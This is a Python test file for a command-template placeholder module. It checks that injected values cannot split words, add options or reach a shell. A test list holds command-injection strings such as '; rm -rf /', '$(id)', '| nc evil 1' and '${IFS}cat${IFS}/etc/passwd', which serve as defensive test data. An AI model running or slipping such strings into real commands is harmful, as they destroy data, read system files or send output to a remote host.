"""Placeholders: a value is one word or a part of one, whatever it holds."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from baton.errors import Refused
from baton.worker.processors.placeholders import BUILD, Template

ARGUMENTS = ("month", "dry_run")
NAMES = [*BUILD, *(f"args.{name}" for name in ARGUMENTS)]
VALUES: dict[str, Any] = dict.fromkeys(NAMES, "x")

HOSTILE = [
    "; rm -rf /",
    "$(id)",
    "`id`",
    "${IFS}cat${IFS}/etc/passwd",
    "a b",
    "a\u00a0b",
    "' OR '1'='1",
    '"; id; "',
    "\\",
    "\\'",
    "*",
    "?",
    "~",
    "~root",
    "!!",
    "#",
    "&& id",
    "|| id",
    "| nc evil 1",
    "> /etc/passwd",
    "< /etc/passwd",
    "2>&1",
    "{a,b}",
    "[a-z]",
    "%ID",
    "%%ID",
    "%args.month",
    "%{ID}",
    "{0}",
    "%s%s%n",
    "$PATH",
    "$0",
    "\u202eexe.pdf",
    "é",
    "日本語",
    "",
    " ",
    "a" * 30_000,
    "../../etc/passwd",
    "=",
    "@file",
    "+x",
    "/",
    "file:///etc/passwd",
    "ext::sh -c id",
    "<!-- -->",
    "a;b",
    "a&b",
    "a|b",
    "a\\nb",
    "(id)",
    "^",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_no_value_makes_a_word_more_or_less(value: str) -> None:
    """Each stands exactly as it came, alone in its word or within one, and is not read again."""
    for name in NAMES:
        text = f"html2pdf -o %{name} --to=%{{{name}}}.pdf -- %{name} end"
        filled = Template.parse(text, ARGUMENTS).filled({**VALUES, name: value})
        assert filled == ("html2pdf", "-o", value, f"--to={value}.pdf", "--", value, "end")


@pytest.mark.fuzz
@given(st.dictionaries(st.sampled_from(NAMES), st.text(), max_size=len(NAMES)))
def test_the_number_of_words_never_changes(values: dict[str, str]) -> None:
    """Either a value is refused, or each of its words holds it unchanged."""
    words = ["make", *(f"a%{{{name}}}b" for name in NAMES), "%%"]
    template = Template.of(words, ARGUMENTS)
    every: dict[str, Any] = {**VALUES, **values}
    controls = any(
        re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]", v) for v in values.values()
    )
    if controls:
        with pytest.raises(Refused, match="control character"):
            template.filled(every)
        return
    filled = template.filled(every)
    assert filled == ("make", *(f"a{every[name]}b" for name in NAMES), "%")


@pytest.mark.parametrize(
    "value", ["a\nb", "\n", "a\0b", "a\rb", "\x1b[31m", "a\tb", "\x7f", "\ud800"]
)
def test_control_characters_are_refused(value: str) -> None:
    """No value forges a second line of a file, a terminal's command, or ends a word for the
    kernel."""
    for name in NAMES:
        template = Template.parse(f"make x%{{{name}}}", ARGUMENTS)
        with pytest.raises(Refused, match=rf"the value of %{name} holds a line end or .*U\+"):
            template.filled({**VALUES, name: value})


@pytest.mark.parametrize("value", ["-rf", "--output=/etc/passwd", "-", "--"])
def test_a_value_is_no_option(value: str) -> None:
    """In a place of its own it must not begin with a dash, except after `--`; where the
    configuration gives the beginning of the word, it cannot."""
    with pytest.raises(Refused, match="%ID begins with “-”, which make could take for an option"):
        Template.parse("make %ID.pdf", ()).filled({"ID": value})
    assert Template.parse("make -- %ID", ()).filled({"ID": value})[-1] == value
    assert Template.parse("make -o%ID x%ID", ()).filled({"ID": value})[1] == f"-o{value}"
    with pytest.raises(Refused):
        Template.parse("make %ID -- x", ()).filled({"ID": value})


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("html2pdf %ID.pdf", ("html2pdf", "7.pdf")),
        ("html2pdf '%ID %PACKAGE'", ("html2pdf", "7 shop")),
        ('html2pdf "a %args.month"', ("html2pdf", "a may")),
        ("html2pdf 100%% %{ID}x", ("html2pdf", "100%", "7x")),
        ("html2pdf %%ID %%%ID", ("html2pdf", "%ID", "%7")),
        ("html2pdf %args.month.pdf %args.count", ("html2pdf", "may.pdf", "3")),
        ("html2pdf %args.draft", ("html2pdf", "true")),
        ("html2pdf '' a\\ b", ("html2pdf", "", "a b")),
        ("sh -c 'echo \"$1\"' sh %ID", ("sh", "-c", 'echo "$1"', "sh", "7")),
        ("env A=%ID make", ("env", "A=7", "make")),
        ("python3 -m reports %ID", ("python3", "-m", "reports", "7")),
    ],
)
def test_a_command_is_split_once_and_then_filled(text: str, words: tuple[str, ...]) -> None:
    template = Template.parse(text, ("month", "count", "draft"))
    values: dict[str, Any] = {
        "ID": 7,
        "PACKAGE": "shop",
        "args.month": "may",
        "args.count": 3,
        "args.draft": True,
    }
    assert template.filled(values) == words


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "a program and its words"),
        ("   ", "a program and its words"),
        ("''", "a program and its words"),
        ("html2pdf 'x", "whose quotes are closed: a quote is left open"),
        ("html2pdf x\\", "a backslash at its end is left open"),
        ("%ID x", "a placeholder in its place would let whoever asks choose the program"),
        ("/opt/%SUITE/bin/build", "choose the program"),
        (
            "make %NAME",
            "no placeholders but %ID, %PACKAGE, .*%args.month, .*, and %% for a %: %NAME is none",
        ),
        ("make %id", "%id is none (did you mean %ID?)"),
        ("make %PACKGE", "%PACKGE is none (did you mean %PACKAGE?)"),
        ("make %IDX", "write %{ID}X if %ID is meant"),
        ("make 50% x", "the % in"),
        ("make %", "the % in"),
        ("make %(ID)s", "the % in"),
        ("make %{}", "the % in"),
        ("make %{ID", "the % in"),
        ("make %args.year", "%args.year is none"),
        ("make %args.monthly", "write %{args.month}ly if %args.month is meant"),
        ("bash -c 'make %ID'", "bash would read it as a part of the program"),
        ("/bin/sh -ec 'make %ID'", "sh would read it as a part"),
        ("sudo -u build sh -c 'make %ID'", "sh would read it as a part"),
        ("python3.11 -c 'print(%ID)'", "python would read it as a part"),
        ("perl -e %PACKAGE", "perl would read it as a part"),
        ("ssh build-1 make %ID", "ssh hands them to a shell"),
        ("su build -c 'make %ID'", "su hands them to a shell"),
    ],
)
def test_what_is_no_command_is_refused_and_says_what_to_write(text: str, says: str) -> None:
    with pytest.raises(ValueError) as raised:  # noqa: PT011
        Template.parse(text, ARGUMENTS)
    pattern = re.escape(says).replace(r"\.\*", ".*")
    assert re.search(pattern, str(raised.value)), str(raised.value)


@pytest.mark.parametrize(
    ("value", "says"),
    [
        (None, "the request says nothing for %ID"),
        ([], "is no text and no number"),
        ({}, "is no text and no number"),
        ("a" * 32_769, "has 32,769 characters; at most 32,768"),
    ],
)
def test_a_value_that_is_no_word_is_refused(value: Any, says: str) -> None:
    with pytest.raises(Refused, match=says):
        Template.parse("make %ID", ()).filled({"ID": value})


def test_only_what_a_command_uses_must_be_there() -> None:
    """A request without a suite may run a command that does not name it."""
    assert Template.parse("make %ID", ()).filled({"ID": 7, "SUITE": None}) == ("make", "7")
